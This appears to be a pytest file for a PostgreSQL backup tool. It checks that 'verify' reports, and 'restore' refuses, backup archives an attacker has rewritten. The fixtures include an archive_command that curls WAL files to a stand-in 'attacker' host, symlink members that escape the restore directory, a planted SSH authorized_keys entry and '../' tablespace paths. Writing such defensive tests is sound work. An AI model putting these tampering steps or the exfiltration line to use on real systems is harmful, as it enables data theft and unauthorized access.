"""A tampered copy of a real backup: `verify` reports it, `restore` refuses it, nothing outside changes (issue 14).

The attacker can write the repository (an unencrypted second copy, a bucket):
they rewrite base.tar.zst with members of their choosing, list the new files
in backup_manifest with a valid manifest checksum, and fix backup.json's
SHA-256s so the set is consistent. Each case starts again from the pristine set.
"""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import tarfile
from pathlib import Path
from typing import Callable, Dict, List, Tuple

import pytest

from ansible_collections.restorekeeper.postgresql.plugins.module_utils.common import compression
from harness import make_user_dir
from harness.runas import chown_to

from harness.archived import archive_everything, restore

pytestmark = pytest.mark.slow

VICTIM = b"archive_command = 'true'  # another cluster's own setting\n"
EVIL = b"archive_command = 'curl http://attacker/%f'\n"
KEY = b"ssh-ed25519 AAAAC3Nza attacker@example\n"


class Tampering:
    """The stored set as an attacker rewrites it."""

    def __init__(self, directory: Path) -> None:
        self.directory = directory
        self.record = json.loads((directory / "backup.json").read_text())
        self.manifest = json.loads((directory / "backup_manifest").read_text())
        raw = compression.decompress((directory / "base.tar.zst").read_bytes(), "zstd", 1 << 31)
        with tarfile.open(fileobj=io.BytesIO(raw), mode="r:") as tar:
            self.members: List[Tuple[tarfile.TarInfo, bytes]] = [
                (info, tar.extractfile(info).read() if info.isfile() else b"") for info in tar.getmembers()]

    def add_symlink(self, name: str, target: str) -> None:
        info = tarfile.TarInfo(name)
        info.type, info.linkname = tarfile.SYMTYPE, target
        self.members.append((info, b""))

    def add_file(self, name: str, data: bytes, algorithm: str = "SHA256") -> None:
        info = tarfile.TarInfo(name)
        info.size, info.mode = len(data), 0o600
        self.members.append((info, data))
        entry = {"Path": name, "Size": len(data), "Last-Modified": "2026-12-01 00:00:00 GMT",
                 "Checksum-Algorithm": algorithm}
        if algorithm != "NONE":
            entry["Checksum"] = hashlib.sha256(data).hexdigest()
        self.manifest["Files"].append(entry)

    def write(self) -> None:
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as tar:
            for info, data in self.members:
                tar.addfile(info, io.BytesIO(data) if info.isfile() else None)
        base = compression.compress(buffer.getvalue(), "zstd", 3)
        (self.directory / "base.tar.zst").write_bytes(base)
        manifest = dict(self.manifest)
        manifest.pop("Manifest-Checksum", None)
        body = json.dumps(manifest, indent=0)[:-2].rstrip() + ",\n"  # open before the closing brace
        raw = (body + '"Manifest-Checksum": "%s"}\n' % hashlib.sha256(body.encode()).hexdigest()).encode()
        (self.directory / "backup_manifest").write_bytes(raw)
        self.record["archives"][0]["sha256"] = hashlib.sha256(base).hexdigest()
        self.record["manifest"]["sha256"] = hashlib.sha256(raw).hexdigest()
        (self.directory / "backup.json").write_text(json.dumps(self.record, indent=2))


def through_file_link(set_: Tampering, outside: Path) -> None:
    set_.add_symlink("evil.conf", str(outside / "postgresql.auto.conf"))
    set_.add_file("evil.conf", EVIL)


def through_directory_link(set_: Tampering, outside: Path) -> None:
    set_.add_symlink("keys", str(outside))
    set_.add_file("keys/authorized_keys", KEY)


def unchecked_extra_file(set_: Tampering, outside: Path) -> None:
    set_.add_file("extra.conf", EVIL, algorithm="NONE")


def oid_as_path(oid: str) -> Callable[[Tampering, Path], None]:
    def tamper(set_: Tampering, outside: Path) -> None:
        oid_text = oid.replace("OUTSIDE", str(outside))
        set_.record["tablespaces"] = [{"oid": oid_text, "name": "far", "location": str(outside.parent / "ts-new")}]
        set_.record["archives"].append(dict(set_.record["archives"][0], tablespace_oid=oid_text))
    return tamper


CASES: Dict[str, Tuple[Callable[[Tampering, Path], None], str]] = {
    "file written through a symlink member": (through_file_link, "'evil.conf' is a symlink"),
    "files under a directory symlink member": (through_directory_link, "'keys' is a symlink"),
    "a manifest entry with algorithm NONE": (unchecked_extra_file, "extra.conf: the manifest gives no checksum"),
    "an absolute path as tablespace oid": (oid_as_path("OUTSIDE/postgresql.auto.conf"), "is not a number"),
    "'../x' as tablespace oid": (oid_as_path("../x"), "tablespace oid '../x' is not a number"),
}


def test_a_tampered_copy_is_reported_by_verify_and_refused_by_restore(archived, cluster_factory, rk_session_dir):
    arch = archived(18)
    label = arch.backup()["label"]
    archive_everything(arch.cluster)
    user = arch.cluster.os_user
    outside = make_user_dir(rk_session_dir / "another-cluster", user, 0o700)
    (outside / "postgresql.auto.conf").write_bytes(VICTIM)
    chown_to(outside / "postgresql.auto.conf", user)
    directory = arch.backup_dir(label)
    pristine = {path.name: path.read_bytes() for path in directory.iterdir()}
    slot = cluster_factory(version=18, initdb=False)
    failures = []
    for case, (tamper, expected) in CASES.items():
        for name, data in pristine.items():
            (directory / name).write_bytes(data)
        tampering = Tampering(directory)
        tamper(tampering, outside)
        tampering.write()
        verified = arch.rk("verify", label, check=False)
        mapped = ["--tablespace-map", "far=%s" % (rk_session_dir / "ts-mapped")] if tampering.record["tablespaces"] else []
        restored = restore(arch, slot, "--target-latest", "--backup", label, *mapped, check=False)
        if verified.returncode == 0 or expected not in verified.stderr or "Traceback" in verified.stderr:
            failures.append("%s: verify said %d %s" % (case, verified.returncode, verified.stderr[-600:]))
        if restored.returncode != 1 or expected not in restored.stderr or "Traceback" in restored.stderr:
            failures.append("%s: restore said %d %s" % (case, restored.returncode, restored.stderr[-600:]))
        if sorted(p.name for p in outside.iterdir()) != ["postgresql.auto.conf"] \
                or (outside / "postgresql.auto.conf").read_bytes() != VICTIM:
            failures.append("%s: the directory outside the restore changed" % case)
            (outside / "postgresql.auto.conf").unlink()
            (outside / "postgresql.auto.conf").write_bytes(VICTIM)
            chown_to(outside / "postgresql.auto.conf", user)
        if slot.datadir.exists():
            failures.append("%s: the restore left %s behind" % (case, slot.datadir))
            shutil.rmtree(slot.datadir, ignore_errors=True)
    assert not failures, "\n".join(failures)


def test_a_record_copied_under_another_label_is_refused(archived, cluster_factory):
    arch = archived(18)
    older = arch.backup()["label"]
    archive_everything(arch.cluster)
    newer = "29991231-235959F"  # a later label: the newest backup, had its record been believed
    shutil.copytree(arch.backup_dir(older), arch.backup_dir(newer))
    for path in [arch.backup_dir(newer)] + list(arch.backup_dir(newer).iterdir()):
        chown_to(path, arch.cluster.os_user)
    assert [b["label"] for b in arch.info()["backups"]] == [older]
    verified = arch.rk("verify", newer, check=False)
    assert verified.returncode != 0 and "says it is backup %r, not %r" % (older, newer) in verified.stderr
    slot = cluster_factory(version=18, initdb=False)
    refused = restore(arch, slot, "--target-latest", "--backup", newer, check=False)
    assert refused.returncode != 0 and "Traceback" not in refused.stderr and newer in refused.stderr
    assert not slot.datadir.exists()
